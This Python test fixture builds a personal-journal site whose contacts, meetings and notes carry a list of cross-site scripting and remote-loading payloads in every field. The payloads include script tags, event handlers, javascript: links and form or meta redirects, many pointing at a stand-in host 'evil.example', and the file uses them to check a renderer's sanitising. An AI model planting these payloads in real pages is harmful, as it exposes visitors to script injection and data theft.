"""Hostile text, and a journal that has it in every place where someone else's words can stand."""

from collections.abc import Mapping
from pathlib import Path

from built_site import HELLO

HOST = "evil.example"
VECTORS = [
    "<script>alert(1)</script>",
    f"<script src=https://{HOST}/x.js></script>",
    f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    f"<img src=https://{HOST}/x.png srcset='//{HOST}/y.png 2x'>",
    f"![remote](https://{HOST}/x.png)",
    f"<img src=' https://{HOST}/x.png'><img src='ht&#9;tps://{HOST}/x.png'><img src='\\\\{HOST}/x.png'>",
    f'![remote](//{HOST}/x.png "title")',
    "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>",
    f'<svg><use href="https://{HOST}/x.svg#a"/><image href="//{HOST}/x.png"/><path fill="url(//{HOST}/f)"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "[click](javascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<a href=javascript:alert(1)>x</a> <a href=' &#1; vbscript:x'>y</a>",
    "<javascript:alert(1)>",
    "[ref] and [ref][]\n\n[ref]: javascript:alert(1)",
    f"<iframe src=https://{HOST}/></iframe><object data=//{HOST}/></object><embed src=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/x.css><style>@import '//{HOST}/x.css';</style>",
    f'<meta http-equiv=refresh content="0;url=https://{HOST}/"><base href=https://{HOST}/>',
    f'<p style="background:url(//{HOST}/x.png);position:fixed">x</p>',
    f"<form action=https://{HOST}/><input name=q><button formaction=//{HOST}/>go</button></form>",
    f'<video src=//{HOST}/v poster=//{HOST}/p onplay=alert(1)></video><audio src=https://{HOST}/a></audio>',
    f'<div id="__config">{{"base":".","search":"https://{HOST}/worker.js"}}</div>',
    '<a data-md-component="source" href="https://github.com/a/b">x</a><pre class="mermaid">graph TD</pre>',
    "text {: onclick=alert(1) onmouseover=alert(1) style=position:fixed }",
    '## Heading <img src=x onerror=alert(1)> {: data-toc-label="<img src=x onerror=alert(1)>" }',
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>--><!-- <img src=x onerror=alert(1)> -->",
    '<div class="md-overlay md-search__overlay" role="button">cover</div>',
    "```mermaid\ngraph TD\n```",
    "`<script>` &lt;script&gt;alert(1)&lt;/script&gt;",
    *Path(__file__).with_suffix(".txt").read_text(encoding="utf-8").splitlines(),  # a line each
]  # fmt: skip


def journal_full_of(vectors: list[str]) -> Mapping[str, str | bytes]:
    quoted = ["'" + vector.replace("'", "''").replace("\n", " ").replace("\t", " ") + "'" for vector in vectors]
    contacts = {
        f"contacts/c{number}.md": (
            f"---\nname: {value}\naliases: [{value}]\nrole: {value}\ncompany: {value}\nbond: {value}\n"
            f"topics: [{value}]\nwebsite: 'javascript:alert(1)'\nlinkedin: 'javascript:alert(1)'\n---\n\n{vector}\n"
        )
        for number, (value, vector) in enumerate(zip(quoted, vectors, strict=True))
    }
    meetings = {
        f"meetings/2026-11-03-m{number}.md": (
            f"---\ndate: 2026-11-03\nwith: c{number}\ntitle: {value}\nplace: {value}\nlesson: {value}\n"
            f"introductions: [{value}]\nfollow_ups: [{value}]\n---\n\n## Questions\n\n### {line}\n\n{vector}\n\n"
            f"## Notes\n\n{vector}\n\n## Next\n\n- [ ] {line}\n"
        )
        for number, (value, vector) in enumerate(zip(quoted, vectors, strict=True))
        for line in [vector.replace("\n", " ")]
    }
    update = f"---\ndate: 2026-11-10\nsubject: {quoted[0]}\n---\n\n" + "\n\n".join(vectors)
    free = {f"free{number}.md": f"# {vector}\n\n{vector}\n" for number, vector in enumerate(vectors)}
    return {**HELLO, **contacts, **meetings, **free, "updates/2026-11-10-news.md": update}
